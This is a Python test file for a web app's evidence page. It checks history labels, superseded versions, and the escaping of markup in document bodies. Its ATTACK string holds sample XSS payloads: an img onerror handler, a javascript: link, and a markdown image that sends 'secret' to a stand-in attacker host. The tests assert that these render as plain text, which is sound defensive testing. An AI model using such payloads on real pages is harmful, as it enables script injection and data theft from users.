"""The evidence page: history labelled, and document text that tries to be markup stays text."""

from __future__ import annotations

import re
from datetime import date

from app_pages import _session
from services.records.knowledge import NewVersion
from tests.app.conftest import app, as_user, texts, visit

ATTACK = (
    "交期說明 <img src=x onerror=alert(1)> [點我](javascript:alert(1)) "
    "![](http://attacker.example/?q=secret) 價格 $x$ :red[警告] **粗體**"
)


def evidence_page(user: str, evidence_id: str):
    at = as_user(app(), user).run()
    return visit(at, "evidence", cite=evidence_id)


def test_history_evidence_is_labelled_as_not_a_current_commitment(home):
    at = evidence_page("a.sales", "QUOTE-2025-117@1:0-12")
    assert not at.exception
    page = texts(at)
    assert ":violet-badge[歷史 history]" in page
    assert "never a current commitment" in page


def test_a_superseded_version_is_shown_but_may_not_back_a_claim(home):
    at = evidence_page("a.sales", "SOP-LEADTIME@1:0-10")
    page = texts(at)
    assert ":gray-badge[已被取代 Superseded]" in page
    assert "may back a claim today: :red-badge[否 no]" in page


def test_markup_in_a_document_body_is_rendered_as_plain_text(home):
    services = _session.services()
    with services.db.write() as session:
        services.knowledge.add_version(
            session,
            NewVersion(
                tenant_id="A",
                document_id="NOTE-XSS",
                version=1,
                doc_type="note",
                knowledge_class="fact",
                status="approved",
                valid_from=date(2026, 1, 1),
                acl=["tenant"],
                title="<b>標題</b> $y$",
                body=ATTACK,
                approved_by="a.owner",
            ),
            actor="test",
        )
    at = evidence_page("a.sales", f"NOTE-XSS@1:0-{len(ATTACK)}")
    assert not at.exception
    [body] = [m.value for m in at.markdown if ":orange-background[" in m.value]
    assert body.startswith(":orange-background[交期說明 \\<img src\\=x onerror\\=alert\\(1\\)\\>")
    assert "\\!\\[\\]\\(http\\:\\/\\/attacker\\.example\\/\\?q\\=secret\\)" in body
    assert "\\$x\\$" in body and "\\:red\\[警告\\]" in body and "\\*\\*粗體\\*\\*" in body
    rendered = texts(at)
    assert "**\\<b\\>標題\\<\\/b\\> \\$y\\$**" in rendered
    for markdown in (m.value for m in at.markdown):
        # No unescaped tag, image or link opener anywhere on the page.
        assert not re.search(r"(?<!\\)(<|!\[|\]\()", markdown), markdown
